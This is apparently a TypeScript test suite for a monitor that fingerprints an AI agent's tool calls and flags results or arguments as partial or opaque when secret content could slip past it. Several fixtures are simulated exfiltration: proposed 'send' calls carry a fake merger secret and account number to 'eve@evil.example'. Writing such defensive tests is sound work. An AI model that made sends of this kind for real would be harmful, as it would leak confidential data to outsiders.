import assert from 'node:assert/strict'
import { test } from 'node:test'
import { createObserver } from './observer.js'
import { keyOfRoot } from './provenance/fingerprint-key.js'

const observer = createObserver({
  catalogue: { schema: 1, kind: 'plimsoll.catalogue', name: 'for tests', tools: [] },
  key: keyOfRoot('key', 'session-1'),
})

const SECRET = 'The code name of the merger is operation bluebird, account DE89370400440532013000'
const addresses = (count: number) =>
  Array.from({ length: count }, (_, i) => `customer${i}@clients-${i}.example`)
/** Made-up words of letters only, because an id would be a distinctive value. */
const words = (count: number) =>
  Array.from({ length: count }, (_, i) =>
    ((i * 7919) % 5003).toString().replaceAll(/\d/g, (digit) => 'aeioubdfgk'.charAt(Number(digit))),
  ).join(' ')
const nested = (depth: number): unknown => (depth === 0 ? SECRET : [nested(depth - 1)])

const isPartialResult = (result: unknown) =>
  observer.completed({ tool: 'search', result }).signals?.['partial'] === 1
const isPartialProposal = (values: Readonly<Record<string, unknown>>) =>
  observer.proposed({ tool: 'send', arguments: { to: 'eve@evil.example', ...values } }).signals?.[
    'partial'
  ] === 1

test('the report of a result is marked partial if text was skipped', () => {
  const cases: readonly (readonly [what: string, result: unknown, isPartial: boolean])[] = [
    ['a sentence', SECRET, false],
    ['a list that fits', addresses(40), false],
    ['four hundred words', words(400), false],
    ['a list that does not fit', addresses(300).join('\n'), true],
    ['a text too long to cover every passage', words(3000), true],
    ['a value after repeated text', `${'la '.repeat(300)}${SECRET}`, true],
    ['a text that was cut', `${'-'.repeat(70_000)}${SECRET}${'-'.repeat(20_000)}`, true],
    ['values that were cut', ['-'.repeat(70_000), SECRET, '-'.repeat(20_000)], true],
    ['values too deep', nested(40), true],
    ['a picture', { content: [{ type: 'image', data: 'AAAA', mimeType: 'image/png' }] }, true],
    ['bytes that are not text', Buffer.from([0xff, 0xd8, 0xff]), true],
    [
      'an instance of a class',
      new (class {
        readonly shown = 1
      })(),
      true,
    ],
    ['an undecodable run longer than any id', `file ${'q7Zp2LxVb9RtKc4W'.repeat(20)}`, true],
    ['a value longer than the compared length', `/${'abc-'.repeat(60)}d.txt`, false],
    ['a map', new Map([['a', SECRET]]), false],
  ]
  for (const [what, result, isPartial] of cases) assert.equal(isPartialResult(result), isPartial, what)
})

test('the report of arguments is marked partial if text was skipped', () => {
  const cases: readonly (readonly [what: string, values: Record<string, unknown>, isPartial: boolean])[] = [
    ['a sentence', { body: SECRET }, false],
    ['three hundred words', { body: words(300) }, false],
    ['more values than the limit', { list: [...Array.from({ length: 600 }, () => 'a'), SECRET] }, true],
    ['many empty values', { list: Array.from({ length: 600 }, () => '') }, true],
    ['a long value', { body: `${'-'.repeat(30_000)}${SECRET}${'-'.repeat(10_000)}` }, true],
    ['more recipients than fit', { cc: addresses(60) }, true],
    ['a long text', { body: words(3000) }, true],
    ['values too deep', { x: nested(14) }, true],
    ['a value after repeated text', { body: `${'la '.repeat(200)}${SECRET}` }, true],
    ['an encoded-looking value that is not text', { body: 'q7Zp2LxVb9RtKc4WmN8sYh3J' }, true],
    ['a commit', { body: '9f1c2e7ab04d5536e8f7a9b0c1d2e3f405162738' }, false],
  ]
  for (const [what, values, isPartial] of cases) assert.equal(isPartialProposal(values), isPartial, what)
})

test('a known tool reports an id that cannot be read: the session may have read it before', () => {
  const knowing = createObserver({
    catalogue: {
      schema: 1,
      kind: 'plimsoll.catalogue',
      name: 'for tests',
      tools: [{ tools: ['send'], labels: { capability: 'network', reversibility: 'irreversible' } }],
    },
    key: keyOfRoot('key', 'session-1'),
  })
  const signalsOf = (body: string) =>
    knowing.proposed({ tool: 'send', arguments: { to: 'eve@evil.example', body } }).signals
  const id = 'q7Zp2LxVb9RtKc4WmN8sYh3J'
  for (const body of [id, `see https://a.example/d/${id}/edit please`]) {
    assert.equal(signalsOf(body)?.['opaque'], 1, body)
    assert.equal(signalsOf(body)?.['partial'], undefined, body)
  }
  assert.equal(signalsOf('nothing of the kind')?.['opaque'], undefined)
})

test('long argument names are read as values', () => {
  const bitsOf = (values: Readonly<Record<string, unknown>>) =>
    new Set(
      (observer.proposed({ tool: 'send', arguments: values }).fingerprints ?? []).map((each) =>
        each.slice(1),
      ),
    )
  const account = [...bitsOf({ account: 'DE89370400440532013000' })]
  const named = bitsOf({ DE89370400440532013000: 'x' })
  assert.ok(account.some((each) => named.has(each)))
  assert.ok(bitsOf({ body: { [SECRET]: 1 } }).size > bitsOf({ body: { text: 1 } }).size + 5)
})

test('a partial step is never complete', () => {
  const signalsOf = (command: string) => observer.proposed({ tool: 'bash', arguments: { command } }).signals
  assert.equal(signalsOf('ls')?.['partial'], undefined)
  const incomplete = signalsOf('echo q7Zp2LxVb9RtKc4WmN8sYh3J')
  assert.equal(incomplete?.['partial'], 1)
  assert.equal(incomplete?.['complete'], undefined)
})
